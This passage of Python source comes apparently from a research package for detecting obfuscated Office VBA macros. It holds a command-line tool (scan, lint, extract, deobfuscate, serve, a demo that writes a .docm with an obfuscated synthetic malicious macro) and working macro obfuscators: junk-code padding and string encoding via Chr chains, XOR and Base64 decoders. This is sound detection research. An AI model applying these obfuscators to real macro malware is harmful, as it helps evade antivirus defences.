    quarantine yields a pre-failed record instead — replaying different
    bytes would attribute the outcome to the wrong incident.
    """
    from repro.engine.records import DocumentRecord
    from repro.resilience import load_replay_targets, verify_replay

    entries: list[tuple[str, object]] = []
    refused = 0
    for path, recorded_sha in load_replay_targets(args.replay):
        data, reason = verify_replay(path, recorded_sha)
        if data is None:
            record = DocumentRecord(source_id=path, sha256=recorded_sha)
            record.degrade("replay", f"refused: {reason}")
            entries.append(("record", record))
            refused += 1
        else:
            entries.append(("input", (path, data)))
    if registry.enabled:
        registry.counter("replay.targets").inc(len(entries))
        if refused:
            registry.counter("replay.refused").inc(refused)
    print(
        f"replaying {len(entries) - refused} of {len(entries)} quarantined "
        f"document{'s' if len(entries) != 1 else ''} from {args.replay}"
        + (f" ({refused} refused: changed or unreadable)" if refused else ""),
        file=sys.stderr,
    )
    return entries


def _splice_records(entries, batch) -> list:
    """Merge engine records back into entry order (pre-failed ones kept)."""
    batch_iter = iter(batch)
    records = []
    for kind, payload in entries:
        records.append(payload if kind == "record" else next(batch_iter))
    return records


def _write_quarantine(args, records) -> None:
    """Save the ``--quarantine-out`` report of quarantined/degraded records."""
    if not args.quarantine_out:
        return
    from repro.resilience import quarantine_report

    report = quarantine_report(records)
    with open(args.quarantine_out, "w", encoding="utf-8") as handle:
        json.dump(report, handle, sort_keys=True, indent=2)
        handle.write("\n")
    print(
        f"quarantine report: {report['quarantined_count']} quarantined, "
        f"{report['degraded_count']} degraded -> {args.quarantine_out}",
        file=sys.stderr,
    )


def _finish_telemetry(args, registry, cache_info=None) -> None:
    """Write the trace and/or print the stats summary (both to stderr)."""
    if args.trace_out:
        from repro.obs import write_events

        count = write_events(args.trace_out, registry.events)
        print(f"wrote {count} events to {args.trace_out}", file=sys.stderr)
    if args.stats:
        from repro.obs import summarize

        print(summarize(registry, cache_info), file=sys.stderr)


def _emit_json(records, extra=None) -> None:
    """One JSON object per line per input file (JSONL)."""
    for index, record in enumerate(records):
        payload = record.to_dict()
        if extra is not None:
            payload.update(extra[index])
        print(json.dumps(payload, sort_keys=True))


def _cmd_extract(args) -> int:
    from repro.engine import AnalysisEngine

    if not args.files and not args.replay:
        print("error: no inputs (pass files or --replay REPORT)", file=sys.stderr)
        return 1
    registry = _make_registry(args)
    engine = AnalysisEngine.for_extraction(
        metrics=registry, budget=_make_budget(args), chaos=_make_chaos(args)
    )
    try:
        server = _attach_observability(args, registry, engine)
    except (OSError, ValueError) as error:
        print(f"error: {error}", file=sys.stderr)
        return 1
    entries = _prepare_entries(args, registry)
    if args.replay:
        try:
            entries.extend(_replay_entries(args, registry))
        except (OSError, ValueError) as error:
            print(f"error: {error}", file=sys.stderr)
            return 1
    batch = engine.run_batch(
        [payload for kind, payload in entries if kind == "input"],
        jobs=args.jobs,
        window=args.window,
    )
    records = _splice_records(entries, batch)
    _write_quarantine(args, records)
    _finish_observability(args, registry, engine)
    _finish_telemetry(args, registry, engine.cache_info())
    _shutdown_metrics_server(args, server)
    if args.format == "json":
        _emit_json(records)
        return 0
    status = 0
    for record in records:
        if not record.ok:
            print(f"{record.source_id}: {record.error}", file=sys.stderr)
            status = 1
            continue
        print(
            f"=== {record.source_id} "
            f"({record.container}, {len(record.macros)} modules) ==="
        )
        for macro in record.macros:
            print(f"--- {macro.module_name} ({macro.module_type}) ---")
            print(macro.source)
        for expression, value in record.document_variables.items():
            print(f"[hidden] {expression} = {value!r}")
    return status


def _train_detector(classifier: str, seed: int):
    from repro import ObfuscationDetector
    from repro.corpus.benign import generate_benign_module
    from repro.corpus.malicious import generate_malicious_macro
    from repro.obfuscation.pipeline import default_pipeline

    rng = random.Random(seed)
    sources, labels = [], []
    for _ in range(150):
        sources.append(
            generate_benign_module(rng, target_length=rng.randint(200, 8000))
        )
        labels.append(0)
    pipeline = default_pipeline()
    for index in range(75):
        plain = generate_malicious_macro(rng, rng.choice(("word", "excel")))
        sources.append(pipeline.run(plain, seed=index).source)
        labels.append(1)
    return ObfuscationDetector(classifier).fit(sources, labels)


def _scan_extras(records):
    """Per-record anti-analysis findings + AV aggregate (the non-ML checks)."""
    from repro.avsim.virustotal import VirusTotalSim
    from repro.detect import scan_macro

    av = VirusTotalSim()
    extras = []
    for record in records:
        anti = {
            macro.module_name: scan_macro(macro.source).findings
            for macro in record.macros
        }
        report = av.scan(record.sources) if record.ok else None
        extras.append({"anti": anti, "av": report})
    return extras


def _cmd_scan(args) -> int:
    from repro.engine import AnalysisEngine

    json_mode = args.format == "json"
    log = sys.stderr if json_mode else sys.stdout
    print(
        f"training {args.classifier} detector on synthetic corpus...", file=log
    )
    detector = _train_detector(args.classifier, args.train_seed)
    registry = _make_registry(args)
    engine = AnalysisEngine.for_scan(
        detector,
        lint=args.explain,
        metrics=registry,
        budget=_make_budget(args),
        chaos=_make_chaos(args),
        recover=args.recover,
        sa_budget=_make_sa_budget(args),
    )
    try:
        server = _attach_observability(args, registry, engine)
    except (OSError, ValueError) as error:
        print(f"error: {error}", file=sys.stderr)
        return 1
    entries = _prepare_entries(args, registry)
    batch = engine.run_batch(
        [payload for kind, payload in entries if kind == "input"],
        jobs=args.jobs,
        window=args.window,
    )
    records = _splice_records(entries, batch)
    extras = _scan_extras(records)
    _write_quarantine(args, records)
    _finish_observability(args, registry, engine)
    _finish_telemetry(args, registry, engine.cache_info())
    _shutdown_metrics_server(args, server)

    if json_mode:
        payload_extras = []
        for extra in extras:
            report = extra["av"]
            payload_extras.append(
                {
                    "anti_analysis": {
                        name: [f.technique for f in findings]
                        for name, findings in extra["anti"].items()
                    },
                    "av": None
                    if report is None
                    else {
                        "detections": report.detections,
                        "total_vendors": report.total_vendors,
                        "verdict": report.verdict.value,
                    },
                }
            )
        _emit_json(records, payload_extras)
        return 0

    status = 0
    for record, extra in zip(records, extras):
        if not record.ok:
            print(f"{record.source_id}: {record.error}", file=sys.stderr)
            status = 1
            continue
        print(f"\n=== {record.source_id} ===")
        for macro in record.macros:
            score = "n/a" if macro.score is None else f"{macro.score:.3f}"
            print(
                f"  {macro.module_name}: {len(macro.source):,} chars -> "
                f"{'OBFUSCATED' if macro.is_obfuscated else 'normal'} "
                f"(P={score})"
            )
            if args.explain:
                print(
                    f"    [lint] {len(macro.findings)} findings "
                    f"({_class_summary(macro.findings)})"
                )
                for finding in macro.findings[:5]:
                    print(
                        f"      {finding.location} "
                        f"[{finding.rule_id}/{finding.o_class} "
                        f"{finding.severity}] {finding.message}"
                    )
            if args.recover:
                _print_recovered(macro)
            for finding in extra["anti"][macro.module_name][:5]:
                print(f"    [anti-analysis] {finding.technique}: {finding.detail}")
        report = extra["av"]
        print(
            f"  AV aggregate: {report.detections}/{report.total_vendors} "
            f"vendors -> {report.verdict.value}"
        )
        if record.any_obfuscated:
            status = max(status, 2)
    return status


#: File extensions treated as bare VBA source by ``repro lint``.
_VBA_SOURCE_SUFFIXES = (".bas", ".vba", ".cls", ".frm")


def _print_recovered(macro, indent: str = "    ") -> None:
    """The ``[recovered]`` block under one macro in text output."""
    recovery = macro.recovery
    if recovery is None:
        return
    notes = []
    if recovery.parse_failed:
        notes.append("parse failed")
    if recovery.exhausted:
        notes.append(f"budget exhausted: {recovery.exhausted_reason}")
    if recovery.ioc_kinds:
        notes.append("IOCs: " + ",".join(recovery.ioc_kinds))
    if recovery.signature_hits:
        notes.append("signatures: " + ",".join(recovery.signature_hits))
    suffix = f" ({'; '.join(notes)})" if notes else ""
    print(
        f"{indent}[recovered] {len(macro.recovered_strings)} hidden "
        f"string{'s' if len(macro.recovered_strings) != 1 else ''}{suffix}"
    )
    for value in macro.recovered_strings[:5]:
        shown = value if len(value) <= 100 else value[:99] + "…"
        print(f"{indent}  {shown!r}")
    if len(macro.recovered_strings) > 5:
        print(f"{indent}  … {len(macro.recovered_strings) - 5} more")


def _class_summary(findings) -> str:
    """``O1 2, O3 5`` — non-zero per-class finding counts, O-class order."""
    from repro.lint import count_by_class

    counts = count_by_class(findings)
    parts = [f"{oc} {n}" for oc, n in counts.items() if n]
    return ", ".join(parts) if parts else "none"


def _lint_text_file(engine, path: str, data: bytes):
    """Lint one bare VBA source file into a synthetic DocumentRecord."""
    from repro.engine.records import DocumentRecord, sha256_hex

    record = DocumentRecord(source_id=path, sha256=sha256_hex(data))
    record.container = "text"
    source = data.decode("utf-8", "replace")
    macro = engine.run_source(source, name=pathlib.Path(path).stem)
    record.macros = [macro]
    return record


def _cmd_lint(args) -> int:
    from repro.engine import AnalysisEngine
    from repro.ole.extractor import sniff_format

    rules = (
        tuple(rule.strip() for rule in args.rules.split(",") if rule.strip())
        if args.rules
        else None
    )
    registry = _make_registry(args)
    try:
        engine = AnalysisEngine.for_lint(
            rules,
            metrics=registry,
            budget=_make_budget(args),
            chaos=_make_chaos(args),
            recover=args.recover,
            sa_budget=_make_sa_budget(args),
        )
    except KeyError as error:
        print(f"error: {error.args[0]}", file=sys.stderr)
        return 1
    try:
        server = _attach_observability(args, registry, engine)
    except (OSError, ValueError) as error:
        print(f"error: {error}", file=sys.stderr)
        return 1

    # Partition inputs: Office containers batch through the document
    # pipeline; bare .bas/.vba sources run the macro-level stages directly;
    # anything else (e.g. the .py files next to a sample macro) is skipped.
    # Archive members arrive pre-read as (id, bytes) pairs.
    entries = _prepare_entries(args, registry)
    records: list = [None] * len(entries)
    documents: list[tuple[int, object]] = []
    for index, (kind, payload) in enumerate(entries):
        if kind == "record":
            records[index] = payload
            continue
        if isinstance(payload, tuple):
            source_id, data = payload
        else:
            source_id = payload
            try:
                with open(payload, "rb") as handle:
                    data = handle.read()
            except OSError as error:
                from repro.engine.records import DocumentRecord

                record = DocumentRecord(source_id=source_id)
                record.diag("read", "error", str(error))
                records[index] = record
                continue
        if sniff_format(data) != "unknown":
            documents.append((index, (source_id, data)))
        elif source_id.lower().endswith(_VBA_SOURCE_SUFFIXES):
            records[index] = _lint_text_file(engine, source_id, data)
        else:
            from repro.engine.records import DocumentRecord, sha256_hex

            record = DocumentRecord(source_id=source_id, sha256=sha256_hex(data))
            record.diag(
                "lint", "info", "skipped: neither a macro container nor VBA source"
            )
            records[index] = record
    if documents:
        batch = engine.run_batch(
            [item for _, item in documents], jobs=args.jobs, window=args.window
        )
        for (index, _), record in zip(documents, batch):
            records[index] = record
    _write_quarantine(args, records)
    _finish_observability(args, registry, engine)
    _finish_telemetry(args, registry, engine.cache_info())
    _shutdown_metrics_server(args, server)

    if args.format == "json":
        _emit_json(records)
        return 0

    status = 0
    total = 0
    for record in records:
        if not record.ok:
            print(f"{record.source_id}: {record.error}", file=sys.stderr)
            status = 1
            continue
        if not record.macros:
            continue
        print(f"=== {record.source_id} ===")
        for macro in record.macros:
            total += len(macro.findings)
            print(
                f"  {macro.module_name}: {len(macro.findings)} findings "
                f"({_class_summary(macro.findings)})"
            )
            if args.recover:
                _print_recovered(macro)
            for finding in macro.findings:
                print(
                    f"    {finding.location} "
                    f"[{finding.rule_id}/{finding.o_class} {finding.severity}] "
                    f"{finding.message}"
                )
    if total:
        status = max(status, 2)
    return status


def _cmd_deobfuscate(args) -> int:
    from repro.deobfuscation import deobfuscate
    from repro.engine import AnalysisEngine

    record = AnalysisEngine.for_extraction().run(args.file)
    if not record.ok:
        print(f"{record.source_id}: {record.error}", file=sys.stderr)
        return 1
    for macro in record.macros:
        outcome = deobfuscate(macro.source)
        print(f"--- {macro.module_name} ---")
        print(outcome.source)
        report = outcome.report
        print(
            f"' [deobfuscation: {report.folded_expressions} folds, "
            f"{report.decoder_calls_evaluated} decoder calls, "
            f"{len(report.procedures_removed)} procedures removed]"
        )
    return 0


def _cmd_demo(args) -> int:
    from repro.corpus.documents import build_document_bytes
    from repro.corpus.malicious import generate_malicious_macro
    from repro.obfuscation.pipeline import default_pipeline

    rng = random.Random(args.seed)
    plain = generate_malicious_macro(rng, "word")
    obfuscated = default_pipeline().run(plain, seed=args.seed)
    blob = build_document_bytes(
        [obfuscated.source], "docm",
        document_variables=obfuscated.document_variables,
    )
    with open(args.output, "wb") as handle:
        handle.write(blob)
    print(f"wrote {args.output} ({len(blob):,} bytes, 1 obfuscated macro)")
    return 0


def _cmd_stats(args) -> int:
    from repro.obs import aggregate_events, read_events_tolerant, render_events_report

    try:
        events, lines_skipped = read_events_tolerant(args.trace)
    except OSError as error:
        print(f"error: {error}", file=sys.stderr)
        return 1
    # A crashed or chaos-killed producer leaves truncated/corrupt lines;
    # aggregation skips and reports them instead of dying mid-file.
    if lines_skipped:
        print(
            f"warning: {args.trace}: skipped {lines_skipped} corrupt "
            f"line{'s' if lines_skipped != 1 else ''}",
            file=sys.stderr,
        )
    if args.format == "json":
        from repro.obs import suggest_stage_timeout

        aggregated = aggregate_events(events)
        payload = dict(aggregated)
        payload["suggested_stage_timeout_s"] = suggest_stage_timeout(aggregated)
        if lines_skipped:
            payload["lines_skipped"] = lines_skipped
        print(json.dumps(payload, sort_keys=True))
    else:
        report = render_events_report(events)
        if lines_skipped:
            report += f"\n  lines skipped: {lines_skipped} (truncated or corrupt)"
        print(report)
    return 0


def _cmd_drift(args) -> int:
    from repro.obs.drift import DriftThresholds, read_profile, score_drift

    try:
        baseline = read_profile(args.baseline)
        live = read_profile(args.live)
        thresholds = DriftThresholds(min_count=args.min_count)
    except (OSError, ValueError) as error:
        print(f"error: {error}", file=sys.stderr)
        return 1
    report = score_drift(baseline["metrics"], live["metrics"], thresholds)
    if args.format == "json":
        print(json.dumps(report.to_dict(), sort_keys=True))
    else:
        print(report.render())
    return 0 if report.ok else 2


def _cmd_slo(args) -> int:
    from repro.obs.drift import read_profile
    from repro.obs.slo import DEFAULT_SLOS, dump_slos, evaluate_snapshot, load_slos

    if args.slo_command == "show":
        print(json.dumps(dump_slos(), indent=2, sort_keys=True))
        return 0
    try:
        slos = load_slos(args.slo_file) if args.slo_file else DEFAULT_SLOS
        profile = read_profile(args.snapshot)
    except (OSError, ValueError) as error:
        print(f"error: {error}", file=sys.stderr)
        return 1
    report = evaluate_snapshot(profile["metrics"], slos)
    if args.format == "json":
        print(json.dumps(report.to_dict(), sort_keys=True))
    else:
        print(report.render())
    return 0 if report.ok else 2


def _cmd_reproduce(args) -> int:
    from repro.corpus.builder import CorpusBuilder, paper_profile
    from repro.pipeline.dataset import DatasetBuilder
    from repro.pipeline.experiment import ExperimentRunner
    from repro.pipeline.reporting import render_fig6, render_fig7, render_table3, render_table5

    profile = (
        paper_profile().scaled(args.scale) if args.scale < 1.0 else paper_profile()
    )
    corpus = CorpusBuilder(profile, seed=2016).build()
    dataset = DatasetBuilder().build(corpus.documents, corpus.truth, jobs=args.jobs)
    print(render_table3(dataset))
    result = ExperimentRunner(n_splits=args.folds).run(dataset, jobs=args.jobs)
    print(render_table5(result))
    print(render_fig6(result))
    print(render_fig7(result))
    return 0


def _cmd_serve(args) -> int:
    import asyncio

    from repro.engine import AnalysisEngine
    from repro.obs import MetricsRegistry, SlidingWindow
    from repro.serve import ServeApp, ServeConfig, serve_forever

    print(
        f"training {args.classifier} detector on synthetic corpus...",
        file=sys.stderr,
    )
    detector = _train_detector(args.classifier, args.train_seed)
    # Serving always runs with live telemetry: /metrics and /readyz are
    # part of the endpoint contract, not an opt-in extra.
    registry = MetricsRegistry(trace=bool(args.trace_out))
    window = SlidingWindow()
    engine = AnalysisEngine.for_scan(
        detector,
        lint=True,  # one engine answers /scan, /lint, and /extract
        metrics=registry,
        budget=_make_budget(args),
        chaos=_make_chaos(args),
    )
    engine.window = window
    config = ServeConfig(
        host=args.host,
        port=args.port,
        jobs=max(2, args.jobs),
        window=args.window,
        max_queue=args.max_queue,
        per_client_window=args.client_window,
        rate_per_s=args.rate,
        burst=args.burst,
        default_deadline_s=(
            args.default_deadline if args.default_deadline > 0 else None
        ),
        max_deadline_s=args.max_deadline,
        drain_budget_s=args.drain_budget,
        max_body_bytes=args.max_body_bytes,
        keepalive_idle_s=args.keepalive_idle,
        max_requests_per_connection=args.max_requests_per_connection,
        breaker_threshold=args.breaker_threshold,
        breaker_cooloff_s=args.breaker_cooloff,
    )
    app = ServeApp(engine, config, metrics=registry, window=window)

    def announce(running: ServeApp) -> None:
        print(
            f"serving on http://{args.host}:{running.port} "
            f"(scan/lint/extract; /metrics /healthz /readyz; "
            f"{config.jobs} warm workers, shed line {config.max_queue})",
            file=sys.stderr,
        )

    report = asyncio.run(serve_forever(app, on_ready=announce))
    if report is not None:
        state = "settled" if report.settled else "drain budget expired"
        print(
            f"drained: {state}, {report.abandoned} request(s) quarantined",
            file=sys.stderr,
        )
    if args.trace_out:
        from repro.obs import write_events

        count = write_events(args.trace_out, registry.events)
        print(f"wrote {count} events to {args.trace_out}", file=sys.stderr)
    return 0


if __name__ == "__main__":  # pragma: no cover
    raise SystemExit(main())
