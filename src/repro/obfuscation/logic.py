"""O4 — Logic obfuscation: insert and reorder code (Table I).

Logic obfuscation "changes the execution flow of macro code … by declaring
unused variables or using redundant function calls", and commonly inflates
code size with dummy code (the paper cites CrunchCode-style tools which can
grow code 100×).

Three transforms:

* :class:`DummyCodeInserter` — unused declarations, no-op loops and junk
  procedures interleaved with the real code;
* :class:`ProcedureReorderer` — shuffles top-level procedure order (a pure
  reordering; VBA procedure order is semantically irrelevant);
* :class:`SizePadder` — pads a module toward a *target code length*.  This is
  what produces the horizontal code-length clusters of the paper's Fig. 5(b):
  one obfuscator configuration (= one malware family variant run) always pads
  to the same target, so variants share a code length.
"""

from __future__ import annotations

import re

from repro.obfuscation.base import ObfuscationContext
from repro.vba.writer import CodeWriter

_PROCEDURE_PATTERN = re.compile(
    r"^(?:Public\s+|Private\s+)?(?:Sub|Function)\s+\w+.*?^End (?:Sub|Function)\s*?$",
    re.MULTILINE | re.DOTALL | re.IGNORECASE,
)


class DummyCodeInserter:
    """Insert unused variables, junk loops and redundant procedures."""

    category = "O4"

    def __init__(self, blocks_min: int = 1, blocks_max: int = 4) -> None:
        if blocks_min < 0 or blocks_max < blocks_min:
            raise ValueError("invalid block bounds")
        self._blocks_min = blocks_min
        self._blocks_max = blocks_max

    def apply(self, source: str, context: ObfuscationContext) -> str:
        rng = context.rng
        count = rng.randint(self._blocks_min, self._blocks_max)
        pieces = [source]
        for _ in range(count):
            pieces.append(generate_junk_procedure(context))
        # Unused module-level declarations go first, junk procedures last.
        declarations = [
            f"Dim {context.fresh_name()} As {rng.choice(('Long', 'String', 'Variant', 'Double'))}\n"
            for _ in range(rng.randint(1, 5))
        ]
        return "".join(declarations) + "\n".join(pieces)


class ProcedureReorderer:
    """Shuffle the order of top-level procedures in the module."""

    category = "O4"

    def apply(self, source: str, context: ObfuscationContext) -> str:
        procedures = _PROCEDURE_PATTERN.findall(source)
        if len(procedures) < 2:
            return source
        remainder = _PROCEDURE_PATTERN.sub("", source).strip("\n")
        shuffled = procedures[:]
        context.rng.shuffle(shuffled)
        parts = [remainder] if remainder else []
        parts.extend(shuffled)
        return "\n\n".join(parts) + "\n"


class SizePadder:
    """Pad the module with junk procedures toward a target character count.

    Padding stops once the source reaches ``target_length`` characters (it
    may overshoot by at most one junk procedure), or after
    ``max_procedures`` insertions for pathological targets.
    """

    category = "O4"

    def __init__(self, target_length: int, max_procedures: int = 400) -> None:
        if target_length < 0:
            raise ValueError("target length must be non-negative")
        self._target = target_length
        self._max_procedures = max_procedures

    def apply(self, source: str, context: ObfuscationContext) -> str:
        pieces = [source]
        total = len(source)
        inserted = 0
        while total < self._target and inserted < self._max_procedures:
            junk = generate_junk_procedure(context)
            pieces.append(junk)
            total += len(junk) + 1
            inserted += 1
        return "\n".join(pieces)


def generate_junk_procedure(context: ObfuscationContext) -> str:
    """Emit one plausible-looking but inert procedure."""
    rng = context.rng
    name = context.fresh_name()
    writer = CodeWriter()
    kind = rng.choice(("counter_loop", "string_builder", "arith", "branchy"))
    with writer.block(f"Private Sub {name}()", "End Sub"):
        if kind == "counter_loop":
            var = context.fresh_name(6, 10)
            writer.line(f"Dim {var} As Integer")
            writer.line(f"{var} = {rng.randint(1, 9)}")
            with writer.block(
                f"Do While {var} < {rng.randint(20, 90)}", "Loop"
            ):
                writer.line(f"DoEvents: {var} = {var} + 1")
        elif kind == "string_builder":
            var = context.fresh_name(6, 10)
            writer.line(f"Dim {var} As String")
            writer.line(f'{var} = ""')
            loop_var = context.fresh_name(4, 7)
            writer.line(f"Dim {loop_var} As Long")
            with writer.block(
                f"For {loop_var} = 1 To {rng.randint(5, 25)}", f"Next {loop_var}"
            ):
                writer.line(f"{var} = {var} & Chr(64 + {loop_var} Mod 26)")
        elif kind == "arith":
            var = context.fresh_name(6, 10)
            writer.line(f"Dim {var} As Double")
            writer.line(f"{var} = {rng.randint(2, 50)}")
            writer.line(f"{var} = Sqr(Abs({var} * {rng.randint(3, 17)}))")
            writer.line(f"{var} = Round({var} + {rng.randint(1, 99)} / 7, 3)")
        else:  # branchy
            var = context.fresh_name(6, 10)
            writer.line(f"Dim {var} As Long")
            writer.line(f"{var} = {rng.randint(0, 100)}")
            with writer.block(f"If {var} > {rng.randint(101, 200)} Then", "End If"):
                writer.line(f"{var} = {var} - 1")
                writer.line('MsgBox "never shown"')
    return writer.render()
