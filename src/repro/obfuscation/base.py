"""Shared infrastructure for the obfuscation transforms.

Each transform implements the :class:`Obfuscator` protocol: it receives VBA
source plus an :class:`ObfuscationContext` (seeded RNG and accumulated
side-band data) and returns transformed source.  Transforms are composable;
:mod:`repro.obfuscation.pipeline` chains them per-family.
"""

from __future__ import annotations

import random
import string
from dataclasses import dataclass, field
from typing import Protocol

from repro.vba.tokens import VBA_KEYWORDS

#: Alphabet used for random identifier generation, mirroring the
#: ``ueiwjfdjkfdsv`` style names the paper shows in Fig. 2.
_RANDOM_NAME_ALPHABET = string.ascii_lowercase


@dataclass
class ObfuscationContext:
    """Mutable state threaded through a chain of obfuscators.

    Attributes:
        rng: the seeded random source — all obfuscation randomness flows
            through this so corpora are reproducible.
        used_names: every identifier generated so far (collision avoidance).
        document_variables: name → value pairs that the *document container*
            must carry (the §VI.B "hiding string data" anti-analysis trick
            stores payload strings in document variables / control captions).
        helper_modules: extra source appended after the module body (decoder
            functions emitted by encoding obfuscation).
    """

    rng: random.Random
    used_names: set[str] = field(default_factory=set)
    document_variables: dict[str, str] = field(default_factory=dict)
    helper_modules: list[str] = field(default_factory=list)

    def fresh_name(self, min_length: int = 6, max_length: int = 16) -> str:
        """Generate a random identifier unused so far and not a VBA keyword.

        Mixes three styles real obfuscators emit: uniform letter soup
        (``ueiwjfdjkfdsv``), pronounceable consonant-vowel gibberish
        (``bakoteruna`` — defeats naive readability heuristics), and
        letter-digit mixes (``x7k2p9q4w``).
        """
        while True:
            length = self.rng.randint(min_length, max_length)
            style = self.rng.random()
            if style < 0.45:
                name = "".join(
                    self.rng.choice(_RANDOM_NAME_ALPHABET) for _ in range(length)
                )
            elif style < 0.8:
                name = self._pronounceable_name(length)
            else:
                first = self.rng.choice(_RANDOM_NAME_ALPHABET)
                rest = "".join(
                    self.rng.choice(_RANDOM_NAME_ALPHABET + string.digits)
                    for _ in range(length - 1)
                )
                name = first + rest
            lowered = name.lower()
            if lowered in VBA_KEYWORDS or lowered in self.used_names:
                continue
            self.used_names.add(lowered)
            return name

    def _pronounceable_name(self, length: int) -> str:
        vowels = "aeiou"
        consonants = "bcdfghjklmnpqrstvwz"
        chars = []
        use_vowel = self.rng.random() < 0.3
        while len(chars) < length:
            chars.append(
                self.rng.choice(vowels if use_vowel else consonants)
            )
            use_vowel = not use_vowel if self.rng.random() < 0.85 else use_vowel
        return "".join(chars)

    def fresh_camel_name(self) -> str:
        """Generate a mixed-case random name (``mambaFRUTIsIn`` style)."""
        base = self.fresh_name(10, 16)
        chars = [
            c.upper() if self.rng.random() < 0.3 else c for c in base
        ]
        return "".join(chars)


class Obfuscator(Protocol):
    """A source-to-source VBA transform."""

    #: Which of the paper's categories (O1–O4, or "anti") this implements.
    category: str

    def apply(self, source: str, context: ObfuscationContext) -> str:
        """Return the transformed source."""
        ...


def make_context(seed: int) -> ObfuscationContext:
    """Create a fresh context from an integer seed."""
    return ObfuscationContext(rng=random.Random(seed))
