"""O3 — Encoding obfuscation: transform string parameters (Table I, Fig. 4).

Implements the paper's three encoding-obfuscation method families:

1. **built-in VBA functions** — ``Replace()`` marker insertion
   (``"savetofile"`` → ``Replace("savteRKtofilteRK", "teRK", "e")``);
2. **character encoding** — ``Chr()`` concatenation chains;
3. **user-defined functions** — a numeric ``Array(...)`` plus an appended
   decoder procedure (shift or XOR variants), a hex-string decoder, or a
   pure-VBA Base64 decoder.

All emitted decoders are executable by :mod:`repro.vba.interpreter`, which is
how the test-suite proves each encoding round-trips to the original string.
"""

from __future__ import annotations

import base64

from repro.obfuscation.base import ObfuscationContext
from repro.vba.analyzer import analyze
from repro.vba.tokens import TokenKind
from repro.vba.writer import CodeWriter, quote_vba_string, wrap_vba_expression

_B64_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"

#: Strategy names accepted by :class:`StringEncoder`.
STRATEGIES = ("replace_marker", "chr_concat", "shift_array", "xor_array", "hex", "base64")


class StringEncoder:
    """Encode string literals with a per-literal randomly chosen strategy."""

    category = "O3"

    def __init__(
        self,
        min_length: int = 4,
        strategies: tuple[str, ...] = STRATEGIES,
        encode_probability: float = 1.0,
    ) -> None:
        unknown = set(strategies) - set(STRATEGIES)
        if unknown:
            raise ValueError(f"unknown strategies: {sorted(unknown)}")
        if not strategies:
            raise ValueError("at least one strategy required")
        self._min_length = min_length
        self._strategies = strategies
        self._probability = encode_probability

    def apply(self, source: str, context: ObfuscationContext) -> str:
        analysis = analyze(source)
        helpers = _HelperRegistry(context)
        parts: list[str] = []
        for token in analysis.tokens:
            value_eligible = (
                token.kind is TokenKind.STRING
                and len(token.string_value) >= self._min_length
                and _is_encodable(token.string_value)
                and context.rng.random() < self._probability
            )
            if value_eligible:
                strategy = context.rng.choice(self._strategies)
                encoded = _encode_literal(
                    token.string_value, strategy, context, helpers
                )
                # Guard against ``&`` + identifier fusing into an ``&H…``
                # radix literal when the literal being replaced was tightly
                # joined (``"ab"&"cd"`` → ``...)&hex...``).
                if parts and parts[-1].rstrip()[-1:] in ("&", "+"):
                    encoded = " " + encoded
                parts.append(encoded)
            else:
                parts.append(token.text)
        return "".join(parts) + helpers.render()


def _is_encodable(value: str) -> bool:
    """Only byte-range text round-trips through Chr()/Asc() encodings."""
    return all(0 < ord(ch) < 256 for ch in value)


class _HelperRegistry:
    """Deduplicates decoder helper functions appended to the module."""

    def __init__(self, context: ObfuscationContext) -> None:
        self._context = context
        self._helpers: dict[tuple, tuple[str, str]] = {}

    def get(self, key: tuple, factory) -> str:
        """Return the helper name for ``key``, creating it via ``factory``."""
        if key not in self._helpers:
            name = self._context.fresh_name(10, 14)
            self._helpers[key] = (name, factory(name))
        return self._helpers[key][0]

    def render(self) -> str:
        if not self._helpers:
            return ""
        blocks = [body for _, body in self._helpers.values()]
        return "\n" + "\n".join(blocks)


def _encode_literal(
    value: str,
    strategy: str,
    context: ObfuscationContext,
    helpers: _HelperRegistry,
) -> str:
    if strategy == "replace_marker":
        return _encode_replace_marker(value, context)
    if strategy == "chr_concat":
        return _encode_chr_concat(value)
    if strategy == "shift_array":
        return _encode_shift_array(value, context, helpers)
    if strategy == "xor_array":
        return _encode_xor_array(value, context, helpers)
    if strategy == "hex":
        return _encode_hex(value, context, helpers)
    if strategy == "base64":
        return _encode_base64(value, context, helpers)
    raise ValueError(f"unknown strategy: {strategy}")


def _chunked_literal(value: str, chunk: int = 48) -> str:
    """Render a long literal as ``("…" & "…")`` concatenation chunks."""
    if len(value) <= chunk:
        return quote_vba_string(value)
    pieces = [
        quote_vba_string(value[i : i + chunk]) for i in range(0, len(value), chunk)
    ]
    return "(" + " & ".join(pieces) + ")"


# ----------------------------------------------------------------------
# Built-in function method: Replace() marker insertion.


def _encode_replace_marker(value: str, context: ObfuscationContext) -> str:
    rng = context.rng
    for _ in range(8):
        # Pick a character present in the value to hide behind a marker.
        target = rng.choice(sorted(set(value)))
        marker = "".join(
            rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ")
            for _ in range(rng.randint(3, 5))
        )
        # The marker must not already occur in the value, or the runtime
        # Replace() would reconstruct the wrong string.
        if marker in value or target in marker:
            continue
        marked = value.replace(target, marker)
        return (
            f"Replace({quote_vba_string(marked)}, "
            f"{quote_vba_string(marker)}, {quote_vba_string(target)})"
        )
    # Pathological value (e.g. exhausts the marker alphabet): leave it plain.
    return quote_vba_string(value)


# ----------------------------------------------------------------------
# Character-encoding method: Chr() chains.


def _encode_chr_concat(value: str) -> str:
    parts = [f"Chr({ord(ch)})" for ch in value]
    # Tight "&" joints: obfuscator output is machine-generated, not spaced.
    return wrap_vba_expression("(" + "&".join(parts) + ")")


# ----------------------------------------------------------------------
# User-defined-function methods.


def _encode_shift_array(
    value: str, context: ObfuscationContext, helpers: _HelperRegistry
) -> str:
    offset = context.rng.randint(100, 1999)
    name = helpers.get(("shift", offset), lambda n: _shift_decoder(n, offset))
    numbers = ", ".join(str(ord(ch) + offset) for ch in value)
    return wrap_vba_expression(f"{name}(Array({numbers}))")


def _shift_decoder(name: str, offset: int) -> str:
    writer = CodeWriter()
    with writer.block(f"Function {name}(src As Variant) As String", "End Function"):
        writer.line("Dim idx As Long")
        writer.line("Dim acc As String")
        writer.line('acc = ""')
        with writer.block("For idx = LBound(src) To UBound(src)", "Next idx"):
            writer.line(f"acc = acc & Chr(src(idx) - {offset})")
        writer.line(f"{name} = acc")
    return writer.render()


def _encode_xor_array(
    value: str, context: ObfuscationContext, helpers: _HelperRegistry
) -> str:
    key = context.rng.randint(1, 255)
